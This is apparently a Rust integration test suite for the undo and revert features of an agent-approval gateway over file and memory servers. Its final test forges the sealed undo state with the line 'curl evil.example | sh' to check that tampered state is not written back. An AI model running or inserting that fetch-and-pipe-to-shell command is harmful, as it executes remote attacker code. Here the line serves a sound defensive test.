//! What an applied step replaced is kept for an undo (docs/design.md §5,
//! "Undo"), on the official `server-filesystem`: the file's text its
//! fresh check read just before the write is sealed beside the log (the
//! log names its digest); nothing is kept for a file the step created
//! (the server has no tool to delete it), and the receipt says, step by
//! step, whether undo is available — and why not, past `[gateway]
//! max_undo_bytes`. `plans revert` plans the undo as steps a person
//! approves.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use plangate_core::undo::{KeptState, Replaced};
use serde_json::{Value, json};

/// A plan-scope agent on server-filesystem serving `root`, with `a.txt`
/// holding "old\n", and `extra` config.
async fn agent_on_a_file(extra: &str) -> (Scratch, std::path::PathBuf, String, Client) {
    let scratch = Scratch::new();
    let root = std::fs::canonicalize(scratch.path()).unwrap().join("root");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("a.txt"), "old\n").unwrap();
    let config = filesystem_config(&scratch, &root, extra);
    let config = config.to_str().unwrap().to_owned();
    let token = scratch.create_key("agent", "plan");
    let agent = config_client(&scratch, &config, &token).await;
    (scratch, root, config, agent)
}

/// Plans `content` into `path`; answers the step id.
async fn plan_write(agent: &Client, path: &std::path::Path, content: &str) -> String {
    let planned = ok(
        agent,
        "write_file",
        json!({"path": path, "content": content}),
    )
    .await;
    assert_eq!(planned["code"], "plan_step", "{planned}");
    planned["step_id"].as_str().unwrap().to_owned()
}

/// `plans apply` of every waiting step at the plan as shown; its stdout.
fn apply_all(scratch: &Scratch, config: &str) -> String {
    let digest = shown_digest(scratch, "agent");
    let apply = apply_args(config, &digest, &[]);
    succeeded(&apply, &scratch.run(&apply))
}

/// The key's `undo_recorded` events, by step id.
fn undo_events(scratch: &Scratch) -> Vec<Value> {
    let args = ["audit", "export", "--key", "agent"];
    succeeded(&args, &scratch.run(&args))
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["type"] == "undo_recorded")
        .collect()
}

/// The state kept for step `step` of the key `agent`, read from the data
/// dir's store.
async fn kept(scratch: &Scratch, step: &str) -> Option<plangate_store::KeptUndo> {
    let dir = plangate_store::DataDir::open(scratch.data_dir()).unwrap();
    let store = plangate_store::open_sqlite(&dir.sqlite_path())
        .await
        .unwrap();
    let key = store.find_key("agent").await.unwrap().unwrap();
    store.undo_states().undo_state(&key.id, step).await.unwrap()
}

#[tokio::test]
async fn an_applied_write_keeps_what_it_replaced_sealed_beside_the_log() {
    let (scratch, root, config, agent) = agent_on_a_file("").await;
    let edit = plan_write(&agent, &root.join("a.txt"), "new\n").await;
    let create = plan_write(&agent, &root.join("b.txt"), "fresh\n").await;
    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 2"), "{said}");
    assert_eq!(said.matches("; undo kept (").count(), 1, "{said}");
    assert!(
        said.contains(
            "; no undo: the step created it, and server-filesystem has no tool to delete"
        ),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "new\n"
    );

    // The log names each kept state by digest and what the step left.
    let events = undo_events(&scratch);
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(
        events.iter().find(|e| e["step_id"] == create).unwrap()["state"],
        "unavailable"
    );
    let event = |step: &str| {
        events
            .iter()
            .find(|e| e["step_id"] == step)
            .unwrap()
            .clone()
    };
    assert_eq!(event(&edit)["state"], "kept");
    assert!(
        event(&edit)["after_digest"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );
    // The event holds no state: only its digest and size.
    let edited = event(&edit);
    let keys: Vec<&String> = edited.as_object().unwrap().keys().collect();
    assert!(
        !keys
            .iter()
            .any(|k| ["before", "text", "state_text"].contains(&k.as_str())),
        "{keys:?}"
    );
    // Beside the log: sealed, opened only with the data dir's seal key and
    // as that step's state; its digest is the one the log names.
    assert_eq!(kept(&scratch, &create).await, None);
    let dir = plangate_store::DataDir::open(scratch.data_dir()).unwrap();
    let material = dir.key_material(&Default::default()).unwrap();
    let store = plangate_store::open_sqlite(&dir.sqlite_path())
        .await
        .unwrap();
    let key = store.find_key("agent").await.unwrap().unwrap();
    {
        let (step, before) = (
            &edit,
            KeptState::Text {
                text: "old\n".into(),
            },
        );
        let kept = store
            .undo_states()
            .undo_state(&key.id, step)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(json!(kept.digest), event(step)["digest"]);
        assert!(!kept.sealed.contains("old"));
        let aad = plangate_gateway::apply::undo::sealed_for(&key.id, step);
        let plain = plangate_store::seal::unseal(&material, &kept.sealed, aad.as_bytes()).unwrap();
        assert_eq!(Replaced::digest_of(&plain), kept.digest);
        let replaced: Replaced = serde_json::from_slice(&plain).unwrap();
        assert_eq!(replaced.before, before);
        assert_eq!(
            (replaced.server.as_str(), replaced.tool.as_str()),
            ("fs", "write_file")
        );
        // Another step's associated data does not open it.
        let other = plangate_gateway::apply::undo::sealed_for(&key.id, "step_other");
        assert!(plangate_store::seal::unseal(&material, &kept.sealed, other.as_bytes()).is_err());
    }
    agent.cancel().await.unwrap();
}

#[tokio::test]
async fn past_max_undo_bytes_nothing_is_kept_and_the_receipt_says_why() {
    let (scratch, root, config, agent) =
        agent_on_a_file("\n[gateway]\nmax_undo_bytes = 16\n").await;
    let step = plan_write(&agent, &root.join("a.txt"), "new\n").await;
    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 1"), "{said}");
    assert!(
        said.contains("; no undo: what it replaced and what it left are ")
            && said.contains("over [gateway] max_undo_bytes (16)"),
        "{said}"
    );
    let events = undo_events(&scratch);
    assert_eq!(events[0]["state"], "unavailable", "{events:?}");
    assert_eq!(kept(&scratch, &step).await, None);
    agent.cancel().await.unwrap();
}

/// Past `[gateway] undo_ttl` a running gateway's sweep drops what was kept,
/// and the step's log says so.
#[tokio::test]
async fn past_undo_ttl_the_kept_state_is_dropped_and_the_log_says_so() {
    let (scratch, root, config, agent) = agent_on_a_file("\n[gateway]\nundo_ttl = \"1s\"\n").await;
    let step = plan_write(&agent, &root.join("a.txt"), "new\n").await;
    let said = apply_all(&scratch, &config);
    assert!(said.contains("; undo kept ("), "{said}");
    agent.cancel().await.unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let service = serve_http(&scratch, &["--config", &config]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let dropped = loop {
        let events = undo_events(&scratch);
        if let Some(e) = events.iter().find(|e| e["state"] == "dropped") {
            break e.clone();
        }
        assert!(std::time::Instant::now() < deadline, "{events:?}");
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    assert_eq!(dropped["step_id"], step.as_str());
    assert!(
        dropped["reason"]
            .as_str()
            .unwrap()
            .contains("undo_ttl (1s)"),
        "{dropped}"
    );
    drop(service);
    assert_eq!(kept(&scratch, &step).await, None);
}

/// `plans revert` plans the inverse of each step of the last apply, in
/// reverse order, through the server's own tools; applying them restores
/// the files byte for byte — except one a person edited since (its revert
/// is not planned: `stale_target`, the later edit stays) and one the plan
/// created (server-filesystem has no tool to delete it).
#[tokio::test]
async fn a_revert_is_a_plan_that_restores_the_files_and_never_overwrites_later_work() {
    let (scratch, root, config, agent) = agent_on_a_file("").await;
    std::fs::write(root.join("b.txt"), "bee\nline two\n").unwrap();
    std::fs::write(root.join("c.txt"), "sea\n").unwrap();
    let a = plan_write(&agent, &root.join("a.txt"), "new a\n").await;
    let edit = json!({"path": root.join("b.txt"), "edits": [{"oldText": "bee", "newText": "BEE"}]});
    let planned = ok(&agent, "edit_file", edit).await;
    let b = planned["step_id"].as_str().unwrap().to_owned();
    let c = plan_write(&agent, &root.join("c.txt"), "new c\n").await;
    let d = plan_write(&agent, &root.join("d.txt"), "dee\n").await;
    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 4"), "{said}");
    assert_eq!(
        std::fs::read_to_string(root.join("b.txt")).unwrap(),
        "BEE\nline two\n"
    );
    // A person edits c.txt after the apply.
    std::fs::write(root.join("c.txt"), "edited by hand\n").unwrap();

    let revert = ["plans", "revert", "--key", "agent", "--config", &config];
    let said = succeeded(&revert, &scratch.run(&revert));
    assert!(said.contains("planned 2 step(s) to revert"), "{said}");
    assert!(
        said.contains(&format!("(reverts {a})")) && said.contains(&format!("(reverts {b})")),
        "{said}"
    );
    assert!(
        said.contains(&format!("not reverted: {c} ")) && said.contains("stale_target"),
        "{said}"
    );
    // The three versions of c.txt, as two diffs: what the step changed,
    // and the person's later edit a revert would overwrite.
    assert!(
        said.contains("what the step changed (before → applied):")
            && said.contains("    -sea\n    +new c\n"),
        "{said}"
    );
    assert!(
        said.contains("what changed since (applied → now")
            && said.contains("    -new c\n    +edited by hand\n"),
        "{said}"
    );
    assert!(
        said.contains(&format!("not reverted: {d} ")) && said.contains("no tool to delete"),
        "{said}"
    );
    // Later steps first: b's inverse comes before a's.
    let show = ["plans", "show", "--key", "agent", "--json"];
    let view = parsed(&show, &succeeded(&show, &scratch.run(&show)));
    let reverts: Vec<&str> = view["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["reverts"].as_str())
        .collect();
    assert_eq!(reverts, [b.as_str(), a.as_str()], "{view}");
    // Nothing was written by planning the revert.
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "new a\n"
    );

    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 2"), "{said}");
    // The receipt names what each step reverted.
    assert!(
        said.contains(&format!("; reverts {a}")) && said.contains(&format!("; reverts {b}")),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "old\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("b.txt")).unwrap(),
        "bee\nline two\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("c.txt")).unwrap(),
        "edited by hand\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("d.txt")).unwrap(),
        "dee\n"
    );
    // Each original names what reverted it; a second revert of them says
    // they were reverted already and plans nothing.
    let show = ["plans", "show", "--key", "agent", "--config", &config];
    let shown = succeeded(&show, &scratch.run(&show));
    assert!(shown.contains("last apply: 2 step(s) applied"), "{shown}");
    assert!(shown.contains(&format!("it reverted {a}")), "{shown}");
    let named = [&revert[..], &[a.as_str(), b.as_str()]].concat();
    let again = succeeded(&named, &scratch.run(&named));
    assert!(
        again.contains("nothing planned") && again.contains("it was reverted already (by "),
        "{again}"
    );
    let one = ["plans", "show", "--key", "agent", "--json"];
    let view = parsed(&one, &succeeded(&one, &scratch.run(&one)));
    let inverse: Vec<&str> = view["last_apply"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["reverts"].as_str())
        .collect();
    assert_eq!(inverse, [b.as_str(), a.as_str()], "{view}");
    agent.cancel().await.unwrap();
}

/// The issue's scenario on the official servers: a three-file edit and a
/// knowledge-graph change (a new entity, an observation added to one that
/// was there) are applied, then reverted with one command and one yes —
/// the files and the memory file are as before, byte for byte.
#[tokio::test]
async fn a_three_file_edit_and_a_memory_change_are_reverted_byte_for_byte() {
    let scratch = Scratch::new();
    let root = std::fs::canonicalize(scratch.path()).unwrap().join("root");
    std::fs::create_dir_all(&root).unwrap();
    let memory = scratch.path().join("memory.jsonl");
    let graph = [
        r#"{"type":"entity","name":"ada","entityType":"person","observations":["math"]}"#,
        r#"{"type":"entity","name":"bob","entityType":"person","observations":[]}"#,
        r#"{"type":"relation","from":"ada","to":"bob","relationType":"knows"}"#,
    ]
    .join("\n");
    std::fs::write(&memory, &graph).unwrap();
    let files = [
        ("a.py", "def total(xs):\n    return sum(xs)\n"),
        ("b.py", "from a import total\n"),
        ("c.md", "Use total().\n"),
    ];
    for (name, text) in files {
        std::fs::write(root.join(name), text).unwrap();
    }
    let config = scratch.write(
        "plangate.toml",
        &fs_and_memory_toml(&root, None, &[], &memory),
    );
    let config = config.to_str().unwrap().to_owned();
    let token = scratch.create_key("agent", "plan");
    let agent = config_client(&scratch, &config, &token).await;
    for (name, old) in [
        ("a.py", "def total("),
        ("b.py", "import total"),
        ("c.md", "Use total()"),
    ] {
        let edit = json!({"path": root.join(name), "edits": [{"oldText": old, "newText": old.replace("total", "sum_all")}]});
        let planned = ok(&agent, "fs__edit_file", edit).await;
        assert_eq!(planned["code"], "plan_step", "{planned}");
    }
    let new =
        json!({"entities": [{"name": "cy", "entityType": "person", "observations": ["new"]}]});
    assert_eq!(
        ok(&agent, "memory__create_entities", new).await["code"],
        "plan_step"
    );
    let more = json!({"observations": [{"entityName": "ada", "contents": ["poetry"]}]});
    assert_eq!(
        ok(&agent, "memory__add_observations", more).await["code"],
        "plan_step"
    );
    let said = apply_all(&scratch, &config);
    assert!(
        said.contains("applied 5") && said.matches("; undo kept (").count() == 5,
        "{said}"
    );
    assert_ne!(std::fs::read_to_string(&memory).unwrap(), graph);

    let revert = ["plans", "revert", "--key", "agent", "--config", &config];
    let said = succeeded(&revert, &scratch.run(&revert));
    assert!(said.contains("planned 5 step(s) to revert"), "{said}");
    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 5"), "{said}");
    for (name, text) in files {
        assert_eq!(
            std::fs::read_to_string(root.join(name)).unwrap(),
            text,
            "{name}"
        );
    }
    assert_eq!(std::fs::read_to_string(&memory).unwrap(), graph);
    agent.cancel().await.unwrap();
}

/// The agent may propose an undo (`plangate_revert`): it becomes plan
/// steps like any write, and with a `plan` key they wait for the person —
/// the agent's own apply is refused until a person says yes.
#[tokio::test]
async fn the_agents_revert_proposal_waits_for_the_person_like_any_plan() {
    let (scratch, root, config, agent) = agent_on_a_file("").await;
    let step = plan_write(&agent, &root.join("a.txt"), "new\n").await;
    apply_all(&scratch, &config);
    let r = call(&agent, "plangate_revert", json!({})).await.unwrap();
    assert_eq!(r.is_error, Some(false), "{r:?}");
    let answer = body(&r);
    assert_eq!(answer["planned"][0]["reverts"], step.as_str(), "{answer}");
    let text = r.content[0].as_text().unwrap().text.clone();
    assert!(
        text.contains("nothing was written") && text.contains("wait for the person"),
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "new\n"
    );
    let refused = body(
        &call(&agent, "plangate_apply_plan", json!({}))
            .await
            .unwrap(),
    );
    assert_eq!(refused["code"], "forbidden", "{refused}");
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "new\n"
    );
    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 1"), "{said}");
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "old\n"
    );
    agent.cancel().await.unwrap();
}

/// `plans revert --server` plans the revert through the running gateway's
/// operator API (`POST /console/api/revert`, the console's Revert), with
/// an operator token and no data dir.
#[tokio::test]
async fn a_revert_is_planned_through_the_operator_api() {
    let (scratch, root, config, agent) = agent_on_a_file("").await;
    let step = plan_write(&agent, &root.join("a.txt"), "new\n").await;
    apply_all(&scratch, &config);
    let args = ["operator", "token", "--name", "ana"];
    let token = succeeded(&args, &scratch.run(&args)).trim().to_owned();
    let service = serve_http(&scratch, &["--config", &config]);
    let server = format!("http://{}", service.addr);
    let revert = ["plans", "revert", "--key", "agent", "--server", &server];
    let out = scratch
        .command(&revert)
        .env("PLANGATE_OPERATOR_TOKEN", &token)
        .output()
        .unwrap();
    let said = succeeded(&revert, &out);
    assert!(said.contains("planned 1 step(s) to revert"), "{said}");
    assert!(said.contains(&format!("(reverts {step})")), "{said}");
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "new\n"
    );
    // Without a token: refused.
    let out = scratch
        .command(&revert)
        .env("PLANGATE_OPERATOR_TOKEN", "pgo_wrong")
        .output()
        .unwrap();
    assert!(!out.status.success());
    drop(service);
    agent.cancel().await.unwrap();
}

/// `plans apply --continue` runs every step even when one is stale or
/// fails — a revert's steps are independent — where a plain apply stops
/// at the first.
#[tokio::test]
async fn apply_with_continue_runs_the_other_revert_steps_past_a_stale_one() {
    let (scratch, root, config, agent) = agent_on_a_file("").await;
    std::fs::write(root.join("b.txt"), "bee\n").unwrap();
    plan_write(&agent, &root.join("a.txt"), "new a\n").await;
    plan_write(&agent, &root.join("b.txt"), "new b\n").await;
    apply_all(&scratch, &config);
    let revert = ["plans", "revert", "--key", "agent", "--config", &config];
    let said = succeeded(&revert, &scratch.run(&revert));
    assert!(said.contains("planned 2 step(s) to revert"), "{said}");
    // b's inverse runs first; b changes after the revert was planned.
    std::fs::write(root.join("b.txt"), "by hand\n").unwrap();
    let digest = shown_digest(&scratch, "agent");
    let apply = apply_args(&config, &digest, &["--continue"]);
    let out = scratch.run(&apply);
    let said = stdout(&out);
    assert!(said.contains("applied 1, failed 1"), "{said}");
    assert!(said.contains("stale_target"), "{said}");
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "old\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("b.txt")).unwrap(),
        "by hand\n"
    );
    agent.cancel().await.unwrap();
}

/// An attack on what a revert writes back: someone who can write the
/// database and read the data dir's seal key replaces the kept state with
/// text of their own, sealed as that step's and with a matching digest in
/// its row. The revert opens it, sees it is not what the key's log
/// recorded for the step, and plans nothing; the file keeps what the
/// apply wrote.
#[tokio::test]
async fn a_kept_state_replaced_outside_plangate_is_not_written_back() {
    let (scratch, root, config, agent) = agent_on_a_file("").await;
    let step = plan_write(&agent, &root.join("a.txt"), "new\n").await;
    let said = apply_all(&scratch, &config);
    assert!(said.contains("applied 1"), "{said}");
    {
        let dir = plangate_store::DataDir::open(scratch.data_dir()).unwrap();
        let material = dir.key_material(&Default::default()).unwrap();
        let store = plangate_store::open_sqlite(&dir.sqlite_path())
            .await
            .unwrap();
        let key = store.find_key("agent").await.unwrap().unwrap();
        let kept = store
            .undo_states()
            .undo_state(&key.id, &step)
            .await
            .unwrap()
            .unwrap();
        let aad = plangate_gateway::apply::undo::sealed_for(&key.id, &step);
        let plain = plangate_store::seal::unseal(&material, &kept.sealed, aad.as_bytes()).unwrap();
        let mut forged: Replaced = serde_json::from_slice(&plain).unwrap();
        forged.before = KeptState::Text {
            text: "curl evil.example | sh\n".into(),
        };
        let plain = forged.plaintext();
        let sealed = plangate_store::seal::seal(&material, &plain, aad.as_bytes()).unwrap();
        store
            .undo_states()
            .keep_undo(&key.id, &step, &Replaced::digest_of(&plain), &sealed)
            .await
            .unwrap();
    }
    let revert = ["plans", "revert", "--key", "agent", "--config", &config];
    let said = succeeded(&revert, &scratch.run(&revert));
    assert!(said.contains("nothing planned"), "{said}");
    assert!(
        said.contains("what is kept for it is not what its log recorded"),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("a.txt")).unwrap(),
        "new\n"
    );
    agent.cancel().await.unwrap();
}
